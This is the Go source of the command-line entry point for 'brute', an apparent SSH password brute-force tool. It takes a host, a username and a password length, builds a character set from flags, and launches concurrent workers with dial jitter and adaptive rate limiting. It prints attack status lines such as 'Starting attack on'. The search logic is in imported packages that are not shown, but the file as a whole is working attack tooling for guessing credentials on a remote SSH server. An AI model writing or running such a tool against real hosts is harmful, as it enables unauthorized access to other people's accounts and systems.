// Command brute runs a concurrent password search against one SSH host.
//
// Exit codes: 0 credential found, 1 search space exhausted, 2 run
// cancelled by signal.
package main

import (
	"context"
	"fmt"
	"os"
	"os/signal"
	"strconv"
	"syscall"
	"time"

	"github.com/spf13/cobra"
	"go.uber.org/zap"

	"github.com/azargarov/brute"
	"github.com/azargarov/brute/sshprobe"
)

const (
	exitFound     = 0
	exitExhausted = 1
	exitCancelled = 2
)

func main() {
	os.Exit(run())
}

func run() int {
	var (
		upper          bool
		lower          bool
		digits         bool
		special        string
		workers        int
		port           int
		connectTimeout time.Duration
		bannerTimeout  time.Duration
		verbose        bool
	)

	var status brute.Status

	cmd := &cobra.Command{
		Use:           "brute <host> <username> <length>",
		Short:         "Concurrent SSH password search with adaptive rate limiting",
		Args:          cobra.ExactArgs(3),
		SilenceUsage:  true,
		SilenceErrors: true,
		RunE: func(cmd *cobra.Command, args []string) error {
			length, err := strconv.Atoi(args[2])
			if err != nil {
				return fmt.Errorf("invalid length %q: %w", args[2], err)
			}

			logger := zap.NewNop()
			if verbose {
				if logger, err = zap.NewDevelopment(); err != nil {
					return err
				}
				defer logger.Sync()
			}

			charset := brute.CharsetSpec{
				Upper:   upper,
				Lower:   lower,
				Digits:  digits,
				Special: special,
			}

			probe := sshprobe.New(sshprobe.Config{
				Port:           port,
				ConnectTimeout: connectTimeout,
				BannerTimeout:  bannerTimeout,
				DialJitter:     300 * time.Millisecond,
			})

			eng, err := brute.New(probe, brute.Options{
				Host:     args[0],
				Username: args[1],
				Length:   length,
				Charset:  charset,
				Workers:  workers,
				Logger:   logger,
			})
			if err != nil {
				return err
			}

			set := charset.Build()
			out := cmd.OutOrStdout()
			fmt.Fprintf(out, "[*] Starting attack on %s\n", args[0])
			fmt.Fprintf(out, "[*] Targeting username: %s\n", args[1])
			fmt.Fprintf(out, "[*] Testing passwords of length %d\n", length)
			fmt.Fprintf(out, "[*] Using character set: %s (%d characters)\n", set, len(set))
			fmt.Fprintf(out, "[*] Estimated max attempts: %s\n", brute.SearchSpace(set, length))
			fmt.Fprintf(out, "[*] Using %d workers with adaptive rate limiting\n", workers)

			ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
			defer stop()

			res, err := eng.Run(ctx)
			if err != nil {
				return err
			}
			status = res.Status
			return nil
		},
	}

	cmd.Flags().BoolVar(&upper, "upper", false, "use uppercase letters only")
	cmd.Flags().BoolVar(&lower, "lower", false, "use lowercase letters only")
	cmd.Flags().BoolVar(&digits, "digits", false, "use digits only")
	cmd.Flags().StringVar(&special, "special", "", "use the given characters only")
	cmd.Flags().IntVar(&workers, "workers", brute.DefaultWorkers, "number of concurrent workers")
	cmd.Flags().IntVar(&port, "port", sshprobe.DefaultPort, "SSH port")
	cmd.Flags().DurationVar(&connectTimeout, "connect-timeout", sshprobe.DefaultConnectTimeout, "TCP connect and auth timeout")
	cmd.Flags().DurationVar(&bannerTimeout, "banner-timeout", sshprobe.DefaultBannerTimeout, "SSH handshake timeout")
	cmd.Flags().BoolVarP(&verbose, "verbose", "v", false, "structured engine logging to stderr")

	if err := cmd.Execute(); err != nil {
		fmt.Fprintln(os.Stderr, "error:", err)
		return exitExhausted
	}

	switch status {
	case brute.StatusFound:
		return exitFound
	case brute.StatusCancelled:
		return exitCancelled
	default:
		return exitExhausted
	}
}
